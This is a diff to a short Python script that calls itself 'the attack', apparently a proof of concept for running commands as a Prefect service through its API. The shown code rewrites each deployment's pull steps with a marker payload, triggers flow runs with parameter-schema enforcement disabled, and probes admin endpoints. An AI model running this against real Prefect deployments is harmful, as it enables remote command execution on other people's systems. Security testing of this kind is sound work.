@@ -1,5 +1,6 @@
 """The attack: a command run as the service, through Prefect's API, with nothing but the standard library."""
 
+import encodings.idna  # noqa: F401 - loaded while we are ourselves: another user may not read Python's own files
 import json
 import urllib.error
 import urllib.request
@@ -29,7 +30,9 @@ def attack(api: str, marker: str) -> list[int]:
     told = [listed]
     for deployment in deployments:
         told.append(call("PATCH", f"{api}/deployments/{deployment}", pull_steps(marker))[0])
-        told.append(call("POST", f"{api}/deployments/{deployment}/create_flow_run", {})[0])
+        told.append(
+            call("POST", f"{api}/deployments/{deployment}/create_flow_run", {"enforce_parameter_schema": False})[0]
+        )
     told.append(call("POST", f"{api}/flows/", {"name": "annan"})[0])
     told += [call("GET", f"{api}/{path}")[0] for path in ("csrf-token?client=x", "admin/settings", "docs")]
     return told
